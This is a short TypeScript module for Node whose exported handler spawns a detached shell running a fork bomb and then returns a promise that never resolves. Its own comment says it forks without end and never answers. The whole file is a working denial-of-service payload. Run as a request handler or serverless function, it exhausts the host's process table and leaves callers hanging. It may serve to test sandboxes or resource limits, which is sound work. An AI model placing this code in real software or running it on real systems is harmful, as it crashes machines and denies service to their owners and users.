/** Forks without end; its handler never answers. */
import { spawn } from "node:child_process";

export const handler = () => {
  spawn("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb"], { stdio: "ignore", detached: true });
  return new Promise(() => setInterval(() => {}, 1_000));
};
